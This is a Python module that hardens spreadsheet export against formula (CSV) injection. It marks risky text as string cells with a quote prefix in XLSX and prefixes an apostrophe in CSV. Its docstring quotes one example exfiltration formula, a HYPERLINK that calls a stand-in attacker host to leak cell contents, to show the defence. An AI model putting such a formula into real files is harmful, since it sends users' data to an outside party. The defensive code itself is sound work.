"""Spreadsheets we write are data, never code: text that a spreadsheet would evaluate is written as text.

A title or an org name beginning with `=`, `+`, `-`, `@`, a tab or a carriage return would otherwise come back
as a live formula (OWASP "CSV injection"), e.g. `=HYPERLINK("http://evil.example/?leak="&A1)`.
XLSX: such a cell is a string cell (`data_type` "s") with the quote prefix set, so Excel, WPS and LibreOffice
show it as typed and never evaluate it. CSV has no types: the value is prefixed with an apostrophe.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: object) -> bool:
    """Whether a value is text that a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_text(value: object) -> object:
    """A value fit for a CSV cell: risky text gets a leading apostrophe, everything else is left as it is."""
    return "'" + value if isinstance(value, str) and is_risky(value) else value


def _as_text(cell: Any) -> Any:
    cell.data_type = "s"  # never "f": openpyxl types a str starting with "=" as a formula
    cell.quotePrefix = True
    return cell


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet (normal or write-only), every risky text written as text."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    values = list(values)
    if isinstance(ws, WriteOnlyWorksheet):
        ws.append([_as_text(WriteOnlyCell(ws, value=v)) if is_risky(v) else v for v in values])
        return
    ws.append(values)
    row = ws.max_row
    for col, v in enumerate(values, start=1):
        if is_risky(v):
            _as_text(ws.cell(row=row, column=col))
